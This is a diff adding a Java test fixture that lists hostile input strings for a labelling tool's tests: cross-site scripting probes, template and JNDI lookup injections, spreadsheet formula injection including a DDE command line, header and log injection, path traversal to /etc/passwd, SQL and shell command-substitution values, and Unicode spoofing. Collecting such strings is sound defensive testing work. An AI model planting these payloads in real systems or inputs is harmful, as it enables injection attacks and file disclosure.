@@ -1,0 +1,106 @@
+package io.labelloop.tests;
+
+import java.util.List;
+
+/** Texts that have hurt other tools, wherever users' texts are read, stored or shown. */
+final class HostileTexts {
+  static final List<String> ALL =
+      List.of(
+          // markup and script
+          "<script>alert(1)</script>",
+          "</pre><script>alert(1)</script>",
+          "</script><script>alert(1)</script>",
+          "</title><svg onload=alert(1)>",
+          "</style><img src=x onerror=alert(1)>",
+          "<img src=x onerror=alert(1)//",
+          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+          "<iframe src=javascript:alert(1)>",
+          "<a href=\"javascript:alert(1)\">x</a>",
+          "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+          "\"><img src=x onerror=alert(1)>",
+          "' onmouseover='alert(1)",
+          "\" autofocus onfocus=\"alert(1)",
+          "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+          "]]><script>alert(1)</script>",
+          "&lt;script&gt;alert(1)&lt;/script&gt;",
+          "&#60;script&#62;",
+          "<base href=//example.org/>",
+          "<meta http-equiv=refresh content=0;url=//example.org>",
+          "<object data=data:text/html,x>",
+          "<style>*{background:url(//example.org)}</style>",
+          "<template shadowrootmode=open><slot></slot></template>",
+          "<short-text>x</short-text><crowd-button>x</crowd-button>",
+          // templates, expressions, look-ups
+          "{{7*7}}",
+          "{{constructor.constructor('alert(1)')()}}",
+          "{% $states.input %}",
+          "${jndi:ldap://example.org/x}",
+          "#{7*7}",
+          "${7*7}",
+          "{{ task.input.text | escape }}",
+          "%s%s%n%d",
+          "{0} {1}",
+          "$1 \\1 $& \\",
+          // formulas of spreadsheets
+          "=1+1",
+          "=HYPERLINK(\"http://example.org\",\"x\")",
+          "+1+1",
+          "-1+1",
+          "@SUM(1)",
+          "=cmd|' /C calc'!A0",
+          // lines, headers, logs
+          "a\r\nSet-Cookie: x=1",
+          "a\nstep=CloseCampaign outcome=ok",
+          "a\u2028b\u2029c",
+          "a\u0085b",
+          "\u001B[31mred\u001B[0m",
+          "a\tb",
+          // paths
+          "../../../../etc/passwd",
+          "..\\..\\windows",
+          "/etc/passwd",
+          "%2e%2e%2f%2e%2e%2f",
+          "campaigns/other/campaign.json",
+          "C:\\x",
+          ".",
+          "..",
+          "CON",
+          // SQL and shells, out of habit
+          "'; DROP TABLE labels; --",
+          "$(touch /tmp/labelloop-was-here)",
+          "`touch /tmp/labelloop-was-here`",
+          // Unicode
+          "\u202Eevil\u202C",
+          "\u2066\u2067\u2068\u2069",
+          "p\u0430ypal",
+          "zero\u200Bwidth\u200Djoined\uFEFF",
+          "e" + "\u0301".repeat(500),
+          "\uFFFE\uFFFF",
+          "\uD83D\uDE00\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
+          "\u0645\u0631\u062D\u0628\u0627",
+          "\u65E5\u672C\u8A9E",
+          "\u00DF\u0130\u0131\u01C5",
+          "I\u0307",
+          // numbers, words of other languages, emptiness
+          "NaN",
+          "-Infinity",
+          "1e999",
+          "0x10",
+          "null",
+          "undefined",
+          "true",
+          "[object Object]",
+          " leading and trailing ",
+          "\u00A0",
+          "'",
+          "\"",
+          "\"\"\"",
+          ",",
+          ";",
+          "\\",
+          "\\u0000",
+          "x".repeat(100_000));
+
+  private HostileTexts() {}
+}
